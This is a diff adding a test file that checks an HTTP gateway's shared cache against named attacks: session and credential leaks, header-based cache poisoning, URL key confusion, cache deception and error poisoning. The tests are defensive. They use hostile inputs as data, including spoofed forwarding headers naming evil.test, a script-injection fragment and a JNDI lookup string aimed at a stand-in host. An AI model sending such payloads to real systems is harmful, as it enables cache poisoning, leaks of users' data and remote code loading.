@@ -1,0 +1,314 @@
+// What goes wrong in shared caches in front of people: one test for each attack, by its name.
+import { describe, expect, test } from 'vitest';
+import { startBackend, startRawBackend } from '../support/backend.ts';
+import { type Answer, type RequestOptions, request } from '../support/client.ts';
+import { startGateway } from '../support/world.ts';
+import { bodies, numbered, startScene } from './scene.ts';
+
+const LONG = { 'cache-control': 'max-age=600' };
+
+describe('session leak', () => {
+  test.for(['max-age=600', 'public, max-age=600', 's-maxage=600', 'immutable, max-age=600'])(
+    'an answer that sets a cookie is for nobody else: %s',
+    async (control) => {
+      const { get } = await startScene(numbered({ 'cache-control': control, 'set-cookie': 'session=1' }));
+      expect(bodies([await get('/a'), await get('/a')])).toEqual(['answer 1', 'answer 2']);
+    },
+  );
+
+  test('who comes with a cookie leaves nothing for others, and gets nothing of theirs', async () => {
+    const { get } = await startScene(numbered(LONG));
+    await get('/a', { cookie: 'session=ann' });
+    expect((await get('/a')).body).toBe('answer 2');
+    expect((await get('/a', { cookie: 'session=ann' })).body).toBe('answer 3');
+    expect((await get('/a')).body).toBe('answer 2');
+  });
+
+  test('but for what says that it is public, and where the site says that cookies make no difference', async () => {
+    const open = await startScene(numbered({ 'cache-control': 'public, max-age=600' }));
+    await open.get('/a', { cookie: 'session=ann' });
+    expect((await open.get('/a')).body).toBe('answer 1');
+    const ignoring = await startScene(numbered(LONG), { site: 'cache: { cookies: ignore }' });
+    await ignoring.get('/a', { cookie: 'session=ann' });
+    expect((await ignoring.get('/a', { cookie: 'session=bob' })).body).toBe('answer 1');
+  });
+
+  test("the gateway's own cookie is no obstacle, and reaches one client only", async () => {
+    const backend = await startBackend(numbered(LONG));
+    const world = await startGateway(`upstreams: { app: { servers: "${backend.url}", sticky: { cookie: gh_node } } }
+sites: { localhost: { to: app, cache: true } }`);
+    const get = (path: string, headers: RequestOptions['headers'] = {}): Promise<Answer> =>
+      request('http/1.1', world, { path, headers });
+    const first = await get('/a');
+    const cookie = String(first.headers['set-cookie']).split(';', 1)[0] as string;
+    expect(cookie).toMatch(/^gh_node=/);
+    const second = await get('/a');
+    expect([second.body, second.headers['set-cookie']]).toEqual(['answer 1', undefined]);
+    expect((await get('/a', { cookie })).body).toBe('answer 1');
+    expect((await get('/a', { cookie: `${cookie}; session=1` })).body).toBe('answer 2');
+  });
+});
+
+describe('credential leak', () => {
+  test.for([
+    ['max-age=600', false],
+    ['public, max-age=600', true],
+    ['s-maxage=600', true],
+    ['must-revalidate, max-age=600', true],
+  ] as const)('an answer to a request with Authorization, %s: shared %s', async ([control, isShared]) => {
+    const { get } = await startScene(numbered({ 'cache-control': control }));
+    await get('/a', { authorization: 'Bearer ann' });
+    expect((await get('/a')).body).toBe(isShared ? 'answer 1' : 'answer 2');
+    expect((await get('/a', { authorization: 'Bearer bob' })).body).toBe(isShared ? 'answer 1' : 'answer 3');
+  });
+
+  test.for(['private', 'PRIVATE', 'private="set-cookie', 'no-store', 'No-Store', 'max-age=600, private', 'private;'])(
+    '%s is for one',
+    async (word) => {
+      const { get } = await startScene(numbered({ 'cache-control': `max-age=600, ${word}` }));
+      expect(bodies([await get('/a'), await get('/a')])).toEqual(['answer 1', 'answer 2']);
+    },
+  );
+
+  test('who was signed in by a trusted proxy is somebody', async () => {
+    const file = 'trustedProxies: [127.0.0.1]';
+    const { get } = await startScene(numbered(LONG), { file });
+    await get('/a', { 'x-forwarded-user': 'ann' });
+    expect((await get('/a', { 'x-forwarded-user': 'bob' })).body).toBe('answer 2');
+    expect((await get('/a')).body).toBe('answer 3');
+  });
+});
+
+describe('poisoning by what is not in the key', () => {
+  test.for([
+    ['x-forwarded-host', 'evil.test'],
+    ['x-forwarded-proto', 'ftp'],
+    ['x-forwarded-scheme', 'nothttps'],
+    ['x-forwarded-prefix', '/evil'],
+    ['x-original-url', '/evil'],
+    ['x-rewrite-url', '/evil'],
+    ['x-host', 'evil.test'],
+    ['x-http-host-override', 'evil.test'],
+    ['x-forwarded-server', 'evil.test'],
+    ['forwarded', 'host=evil.test'],
+    ['x-forwarded-port', '1'],
+    ['true-client-ip', '"><script>'],
+  ] as const)('unkeyed forwarding header: %s', async ([name, value]) => {
+    const { get } = await startScene(({ headers }, response) => {
+      response.setHeader('cache-control', 'max-age=600');
+      response.end(`saw ${String(headers[name])}`);
+    });
+    await get('/a', { [name]: value });
+    expect((await get('/a')).body).not.toContain(value);
+  });
+
+  test('what a trusted proxy says of host and scheme is in the key', async () => {
+    const { get } = await startScene(
+      ({ headers }, response) => {
+        response.setHeader('cache-control', 'max-age=600');
+        response.end(`https://${String(headers['x-forwarded-host'])}/`);
+      },
+      { file: 'trustedProxies: [127.0.0.1]' },
+    );
+    await get('/a', { 'x-forwarded-host': 'other.test' });
+    expect((await get('/a')).body).toBe('https://localhost/');
+    expect((await get('/a', { 'x-forwarded-host': 'other.test' })).headers['cache-status']).toMatch(/hit/);
+  });
+
+  test.for(['x-http-method-override', 'x-http-method', 'x-method-override'])('method override: %s', async (name) => {
+    const { get } = await startScene(numbered(LONG));
+    await get('/a', { [name]: 'DELETE' });
+    expect((await get('/a')).body).toBe('answer 2');
+    expect((await get('/a', { [name]: 'DELETE' })).body).toBe('answer 3');
+    expect((await get('/a')).body).toBe('answer 4');
+  });
+
+  test('fat GET: a body is not in the key', async () => {
+    const { get } = await startScene(numbered(LONG));
+    const fat = { 'content-length': '6' };
+    await get('/a', fat, { body: 'q=evil' });
+    expect((await get('/a')).body).toBe('answer 2');
+    expect((await get('/a', fat, { body: 'q=evil' })).body).toBe('answer 3');
+  });
+
+  test('port in the host', async () => {
+    const { get } = await startScene(({ headers }, response) => {
+      response.setHeader('cache-control', 'max-age=600');
+      response.end(`//${headers.host}/`);
+    });
+    await get('/a', { host: 'localhost:1' });
+    expect((await get('/a')).body).toBe('//localhost/');
+  });
+
+  test('aliases and other hosts of a site', async () => {
+    const { world, backend } = await startScene(numbered(LONG), { site: 'aliases: [two.test], cache: true' });
+    const over = { ...world };
+    await request('http/1.1', over, { path: '/a' });
+    await request('http/1.1', over, { path: '/a', host: 'two.test' });
+    expect(backend.seen.length).toBe(2);
+  });
+
+  test('routes by other things than the URL keep apart', async () => {
+    const { get } = await startScene(numbered(LONG), {
+      site: 'cache: true, routes: [{ match: { header: { x-beta: "1" } }, headers: { response: { set: { x-a: b } } } }]',
+    });
+    await get('/a', { 'x-beta': '1' });
+    expect((await get('/a')).body).toBe('answer 2');
+    expect((await get('/a', { 'x-beta': '1' })).body).toBe('answer 1');
+  });
+
+  test.for(['x-forwarded-for', 'x-real-ip', 'forwarded', 'X-Request-ID', 'x-client-cert-subject', '*'])(
+    'an answer that depends on the client by Vary: %s',
+    async (name) => {
+      const { get } = await startScene(numbered({ ...LONG, vary: name }));
+      expect(bodies([await get('/a'), await get('/a')])).toEqual(['answer 1', 'answer 2']);
+    },
+  );
+});
+
+describe('key confusion', () => {
+  test.for([
+    ['parameter cloaking', '/a?x=1&y=2', '/a?x=1;y=2'],
+    ['parameter cloaking by order', '/a?x=1&y=2', '/a?y=2&x=1'],
+    ['a parameter twice', '/a?x=1', '/a?x=1&x=2'],
+    ['an empty query', '/a', '/a?'],
+    ['an encoded question mark', '/a?x=1', '/a%3Fx=1'],
+    ['an encoded ampersand', '/a?x=1&y=2', '/a?x=1%26y=2'],
+    ['a marketing parameter', '/a', '/a?utm_content=x;callback=evil'],
+    ['an encoded slash', '/a/b', '/a%2Fb'],
+    ['path parameters', '/a', '/a;x=1'],
+    ['letters of another case', '/a', '/A'],
+    ['a slash at the end', '/a', '/a/'],
+    ['plus and space', '/a?x=+', '/a?x=%20'],
+  ] as const)('%s: two resources', async ([, one, other]) => {
+    const { get } = await startScene(numbered(LONG));
+    expect(bodies([await get(one), await get(other), await get(one)])).toEqual(['answer 1', 'answer 2', 'answer 1']);
+  });
+
+  test.for([
+    ['dot segments', '/x/../a'],
+    ['encoded letters', '/%61'],
+    ['slashes', '//a'],
+  ] as const)('path confusion by %s: one resource, as the backend sees it', async ([, spelling]) => {
+    const { backend, get } = await startScene(numbered(LONG));
+    await get('/a');
+    await get(spelling);
+    expect(backend.seen.map(({ url }) => url)).toEqual(['/a']);
+  });
+
+  test('a backend that sees the spelling of the client has an answer for each', async () => {
+    const { backend, get } = await startScene(numbered(LONG), { site: 'cache: true, path: original' });
+    await get('/a');
+    await get('/%61');
+    await get('/%61');
+    expect(backend.seen.map(({ url }) => url)).toEqual(['/a', '/%61']);
+  });
+});
+
+describe('cache deception', () => {
+  test.for([
+    '/x.css',
+    '/x.js',
+    '/x.png',
+    ';x.css',
+    '%2Fx.css',
+    '%3Fx.css',
+    '%23x.css',
+    '%0Ax.css',
+    '%00x.css',
+    '/..%2Fx.css',
+  ])('a personal page is not stored for its suffix: %s', async (tail) => {
+    const { get } = await startScene(({ headers }, response) => response.end(`page of ${headers.cookie ?? 'nobody'}`), {
+      site: 'cache: { ttl: 1h }',
+    });
+    await get(`/account${tail}`, { cookie: 'session=ann' });
+    expect((await get(`/account${tail}`)).body).not.toContain('ann');
+  });
+});
+
+describe('error poisoning (CPDoS)', () => {
+  test.for([400, 403, 404, 405, 413, 414, 431, 500, 501, 502, 503])(
+    '%d without a word is not stored',
+    async (status) => {
+      const { backend, get } = await startScene((_, response) => response.writeHead(status).end(), {
+        site: 'cache: { ttl: 1h }',
+      });
+      await get('/a', { 'x-odd': 'y' });
+      await get('/a');
+      expect(backend.seen.length).toBe(2);
+    },
+  );
+
+  test('a truncated answer is not stored', async () => {
+    let isFirst = true;
+    const backend = await startRawBackend((socket) => {
+      socket.once('data', () => {
+        const head = 'HTTP/1.1 200 OK\r\ncache-control: max-age=600\r\n';
+        if (isFirst) socket.end(`${head}transfer-encoding: chunked\r\n\r\n5\r\nhalf!\r\n`);
+        else socket.end(`${head}content-length: 5\r\n\r\nwhole`);
+        isFirst = false;
+      });
+    });
+    const world = await startGateway(`sites: { localhost: { to: "${backend.url}", cache: true } }`);
+    await expect(request('http/1.1', world)).rejects.toThrow();
+    expect((await request('http/1.1', world)).body).toBe('whole');
+  });
+
+  test('a 304 to a client that has something is not stored for those who have nothing', async () => {
+    const { get } = await startScene(({ headers }, response) => {
+      response.setHeader('cache-control', 'max-age=600');
+      response.setHeader('etag', '"1"');
+      if (headers['if-none-match'] === '"1"') response.writeHead(304).end();
+      else response.end('whole');
+    });
+    expect((await get('/a', { 'if-none-match': '"1"' })).status).toBe(304);
+    const next = await get('/a');
+    expect([next.status, next.body]).toEqual([200, 'whole']);
+  });
+
+  test('a part is not stored for those who want the whole', async () => {
+    const { get } = await startScene(({ headers }, response) => {
+      response.setHeader('cache-control', 'max-age=600');
+      if (headers.range === undefined) response.end('whole');
+      else response.writeHead(206, { 'content-range': 'bytes 0-1/5' }).end('wh');
+    });
+    expect((await get('/a', { range: 'bytes=0-1' })).body).toBe('wh');
+    expect((await get('/a')).body).toBe('whole');
+  });
+
+  test('range bomb: many ranges at once get the whole', async () => {
+    const { get } = await startScene(numbered(LONG));
+    await get('/a');
+    const ranges = Array.from({ length: 5 }, () => '0-').join(',');
+    const answer = await get('/a', { range: `bytes=${ranges}` });
+    expect([answer.status, answer.body]).toEqual([200, 'answer 1']);
+  });
+});
+
+test('Accept-Encoding has one form: no spelling is a variant of its own, and the backend sees what the key has', async () => {
+  const { backend, get } = await startScene(numbered({ ...LONG, vary: 'accept-encoding' }));
+  for (const spelling of ['gzip, br', 'br;q=1.0, gzip;q=0.5', 'GZIP,BR', 'br, gzip, compress, zstd;q=0'])
+    expect((await get('/a', { 'accept-encoding': spelling })).body).toBe('answer 1');
+  expect((await get('/a', { 'accept-encoding': 'x-evil' })).body).toBe('answer 2');
+  expect(backend.seen.map(({ headers }) => headers['accept-encoding'])).toEqual(['br, gzip', 'identity']);
+});
+
+describe('what stands before the cache sees every request', () => {
+  test('access', async () => {
+    const { get } = await startScene(numbered(LONG), { site: 'cache: true, access: { deny: [127.0.0.1] }' });
+    expect((await get('/a')).status).toBe(403);
+  });
+
+  test('limits', async () => {
+    const { get } = await startScene(numbered(LONG), { site: 'cache: true, limits: [{ rate: 2/h }]' });
+    const statuses = [await get('/a'), await get('/a'), await get('/a')].map(({ status }) => status);
+    expect(statuses).toEqual([200, 200, 429]);
+  });
+
+  test('rules', async () => {
+    const { get } = await startScene(numbered(LONG), { site: 'cache: true, waf: { rules: [core] }' });
+    await get('/a');
+    expect((await get('/a')).headers['cache-status']).toMatch(/hit/);
+    expect((await get('/a', { 'x-a': '${jndi:ldap://evil.test/a}' })).status).toBe(403);
+  });
+});
